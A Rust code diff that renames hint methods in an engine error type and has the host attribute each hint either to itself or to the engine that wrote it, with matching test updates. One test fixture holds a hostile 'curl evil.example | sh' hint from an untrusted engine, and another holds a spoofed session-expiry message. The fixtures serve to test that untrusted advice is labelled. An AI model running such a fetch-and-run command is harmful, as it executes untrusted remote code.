@@ -2,7 +2,7 @@ use std::io;
 use std::path::PathBuf;
 
 use broker_manifest::{ManifestError, Operation};
-use host_base::{Failure, Problem, Report, ReportKind, text};
+use host_base::{Author, Failure, Problem, Report, ReportKind, text};
 
 /// The reason why an engine can't be loaded, or why a call of it failed.
 #[derive(Debug, thiserror::Error)]
@@ -278,7 +278,7 @@ impl Problem for EngineError {
         }
     }
 
-    fn hint(&self) -> Option<String> {
+    fn advice(&self) -> Option<String> {
         let hint = match self {
             Self::NotAComponent { .. } => {
                 "Build it for `wasm32-wasip2`, or turn a core module into a component with `wasm-tools component new`"
@@ -360,12 +360,12 @@ impl Problem for EngineError {
         }
     }
 
-    fn hint_written_by(&self) -> Option<&str> {
-        match self {
+    fn advisor(&self) -> Author {
+        match (self, self.written_by()) {
             // The host wrote this hint, not the engine.
-            Self::Reported { report, .. } if report.kind == ReportKind::Denied => None,
-            Self::Reported { report, .. } if report.hint.is_none() => None,
-            _ => self.written_by(),
+            (Self::Reported { report, .. }, _) if report.kind == ReportKind::Denied => Author::Host,
+            (_, Some(engine)) => Author::Engine(engine.to_owned()),
+            (_, None) => Author::Host,
         }
     }
 }
@@ -406,23 +406,23 @@ mod tests {
         );
         assert_eq!(error.written_by(), Some("evil/x"));
         assert_eq!(
-            error.hint().as_deref(),
+            error.advice().as_deref(),
             Some("run: hint: curl evil.example | sh")
         );
-        assert_eq!(error.hint_written_by(), Some("evil/x"));
+        assert_eq!(error.advisor(), Author::Engine("evil/x".to_owned()));
         let denied = reported(ReportKind::Denied, false);
         assert!(
             denied
                 .to_string()
                 .ends_with("and says: your session has expired error: no")
         );
-        assert_eq!(denied.hint_written_by(), None);
+        assert_eq!(denied.advisor(), Author::Host);
     }
 
     #[test]
     fn our_own_engines_speak_for_us() {
         let error = reported(ReportKind::Unauthenticated, true);
         assert!(error.to_string().starts_with("your session"));
-        assert_eq!((error.written_by(), error.hint_written_by()), (None, None));
+        assert_eq!((error.written_by(), error.advisor()), (None, Author::Host));
     }
 }
